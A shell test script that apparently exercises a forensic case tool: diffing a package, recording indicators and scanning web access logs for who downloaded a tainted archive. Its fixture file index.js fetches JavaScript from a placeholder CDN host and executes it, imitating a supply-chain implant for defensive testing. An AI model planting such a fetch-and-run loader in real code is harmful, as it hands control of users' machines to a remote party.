#!/bin/sh
# Logs into a case: what it looks for, whose lines they are, and what reading a file again does.
. "$(dirname "$0")/lib.sh"

ASSAY_AUTHOR='an analyst'
export ASSAY_AUTHOR
store="--store $HERE/case.db"

mkdir old new
echo 'exports.version = 1;' >old/index.js
cat >new/index.js <<'JS'
exports.version = 2;
require('http').get('http://cdn.stats.example/a/b.js', (r) => {
  let s = '';
  r.on('data', (d) => { s += d; });
  r.on('end', () => require('vm').runInThisContext(s));
});
JS
tar -cf old.tar old && tar -cf new.tar new
is 1 diff old.tar new.tar --format json
cp out result.json
size=$(stat -c %s new.tar)

is 0 case new C1 $store --now 2022-09-30
is 0 case add C1 result.json $store --now 2022-09-30
is 0 case add C1 $store --channel 'download https://dl.vendor.example/a' --now 2022-09-30
is 0 case show C1 $store --format json
channel=$(jq -r '.channels[0].id' out)
is 2 case add C1 $store --source web --channel c999
is 2 case add C1 $store --source web --clock 12
is 0 case add C1 $store --source web --kind nginx --channel "$channel" --clock -95.5/0.4/30 --now 2022-09-30
is 0 case add C1 $store --indicator 'path /agent/new.tar' --stage delivered --release r1 --now 2022-09-30
is 0 case add C1 $store --indicator 'package Agent 10.0.9' --now 2022-09-30
is 0 case show C1 $store --format json
ok 'a source has its channel and clock' jq -e --arg c "$channel" '.sources[0] | .channel == $c and
	.clock.offset_seconds == -95.5 and .clock.sigma_seconds == 0.4 and .clock.pairs == 30' out
ok 'software is installed' jq -e '.indicators[] | select(.kind == "package") | .stage == "installed"' out

t='[27/Sep/2022:10:11:12 +0000]'
{
	echo "192.0.2.1 - - $t \"GET /agent/new.tar?Licence-Key=L-1&agent=a7 HTTP/1.1\" 200 $size \"-\" \"x\""
	echo "192.0.2.2 - - $t \"GET /agent/new.tar HTTP/1.1\" 200 100 \"-\" \"x\""
	echo "192.0.2.3 - - $t \"HEAD /agent/new.tar HTTP/1.1\" 200 $size \"-\" \"x\""
} >access.log
is 2 scope scan $store --case C1 access.log
is 2 scope scan $store --case C1 --as other access.log
is 2 scope scan $store --case C2 --as web access.log
is 0 scope scan $store --case C1 --as web access.log --now 2022-10-01
is 0 case export C1 $store
head -1 out >one.case
tail -n +2 out >one.seen
# The path and the name of the file are two indicators of the same lines.
ok 'two were handed out' jq -se '[.[].line] | unique == [1, 2]' one.seen
ok 'one of them whole, and says who it is' jq -se --argjson size "$size" '[.[] | select(.complete == "yes")] |
	length == 2 and all(.bytes == $size and .keys.licence == "L-1" and .keys.agent_id == "a7" and
	.keys.ip == "192.0.2.1" and .line == 1)' one.seen
ok 'one in part' jq -se '[.[] | select(.complete == "partial")] | length == 2 and all(.line == 2)' one.seen
ok 'the file stands in the source' jq -e '.sources[0].files | length == 1 and .[0].lines == 3 and
	.[0].unreadable == 0 and .[0].name == "access.log"' one.case

# The same again changes nothing; another zone or format would replace what it said.
is 0 scope scan $store --case C1 --as web access.log --now 2022-10-01
is 0 case export C1 $store
tail -n +2 out >two.seen
same one.seen two.seen

# A server that writes every ten seconds and is silent for six hours lost something: a gap of the source.
awk 'BEGIN { for (t = 0; t < 172800; t += 10) if (t < 36000 || t >= 57600)
	printf "192.0.2.9 - - [%02d/Sep/2022:%02d:%02d:%02d +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"x\"\n",
		26 + t / 86400, t / 3600 % 24, t / 60 % 60, t % 60 }' >long.log
is 0 scope scan $store --case C1 --as web long.log -f json --now 2022-10-02
ok 'the silence is said' jq -e '.gaps | length == 1 and .[0].lo == "2022-09-26T09:59:50Z" and
	.[0].source == "web" and .[0].lines_expected > 2000' out
is 0 case show C1 $store --format json
ok 'and is a gap, by the clock that was told' jq -e '.sources[0].coverage.gaps | length == 1 and
	(.[0].lo | startswith("2022-09-26T10:01:2")) and (.[0].hi | startswith("2022-09-26T16:01:"))' out
is 0 scope scan $store --case C1 --as web long.log --now 2022-10-02
is 0 case show C1 $store --format json
printf 'id,ip\nC9,192.0.2.1@yesterday/\n' >leases.csv
is 2 case add C1 $store --customers leases.csv
has err 'ADDRESS@FROM/TO'
printf 'id,ip\nC9,192.0.2.1@2022-09-20/2022-09-26T12:00:00Z;198.18.0.0/28@/2022-10-01\n' >leases.csv
is 0 case add C1 $store --customers leases.csv --now 2022-10-03
is 0 case show C1 $store --format json
ok 'once' jq -e '.sources[0].coverage.gaps | length == 1' out

done_
